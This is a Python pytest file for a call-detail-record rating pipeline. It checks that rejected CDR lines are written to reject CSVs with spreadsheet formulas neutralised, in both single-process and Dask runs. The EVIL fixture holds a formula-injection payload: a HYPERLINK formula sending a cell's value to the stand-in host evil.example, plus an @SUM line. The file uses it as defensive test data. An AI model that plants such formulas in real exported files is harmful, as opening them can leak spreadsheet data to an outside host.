"""Reject files of `anatole batch-rate` (one process, and the Dask parts assembled) carry raw CDR text: a line
that would run as a spreadsheet formula is written neutralised (store.cells), as every other CSV we write."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from serve_support import make_workspace

from anatole.config import open_workspace
from pipeline.batchrate import batch_rate

GOOD = (b'"","2001","+33155501234","from-internal","""Alice"" <2001>","PJSIP/2001-0000002a","PJSIP/trunk-out-0000002b",'
        b'"Dial","PJSIP/+33155501234@trunk-out,60","2025-03-14 10:15:02","2025-03-14 10:15:09","2025-03-14 10:17:41",'
        b'159,152,"ANSWERED","DOCUMENTATION","1741943702.84",""\n')
EVIL = b'=HYPERLINK("http://evil.example/?x="&A1;"open me")\n@SUM(1+1)\n'


def _workspace(root: Path) -> Path:
    return make_workspace(root, sources="")  # site paris, its tariff, no live source


def _raw_cells(path: Path) -> list[str]:
    return [r["raw"] for r in csv.DictReader(path.open(encoding="utf-8", newline=""))]


def test_single_process_rejects_are_neutralised(tmp_path: Path) -> None:
    ws = open_workspace(_workspace(tmp_path / "ws"))
    cdr = tmp_path / "Master.csv"
    cdr.write_bytes(GOOD + EVIL)
    out = tmp_path / "rated.csv"
    result = batch_rate([cdr], tariff=ws.path / "tariffs" / "fr-business.toml", fmt="asterisk", out=out,
                        site=ws.sites["paris"], ws=ws)
    assert (result.calls, result.rejected) == (1, 2)
    raws = _raw_cells(tmp_path / "rated.csv.rejects.csv")
    assert len(raws) == 2 and all(r.startswith("'") for r in raws), raws
    assert raws[0].startswith("'=HYPERLINK(")


def test_dask_parts_assemble_neutralised_rejects(tmp_path: Path) -> None:
    pytest.importorskip("distributed")
    from pipeline.distributed import Job, _assemble, _prepare, plan_parts, rate_part

    root = _workspace(tmp_path / "ws")
    cdr = tmp_path / "Master.csv"
    cdr.write_bytes((GOOD + EVIL) * 3)
    plan = plan_parts([cdr], "asterisk", chunk_bytes=400)
    out = tmp_path / "many.csv"
    parts_dir = _prepare(out, parquet=False)
    job = Job(root=str(root), configured=True, site="paris", tariff=str(root / "tariffs" / "fr-business.toml"),
              fmt="asterisk", timezone="UTC", parquet=False, parts_dir=str(parts_dir))
    for p in plan.parts:
        rate_part(p, job)
    _assemble(out, parts_dir, False, len(plan.parts))
    raws = _raw_cells(tmp_path / "many.csv.rejects.csv")
    assert len(raws) == 6 and all(r.startswith("'") for r in raws), raws
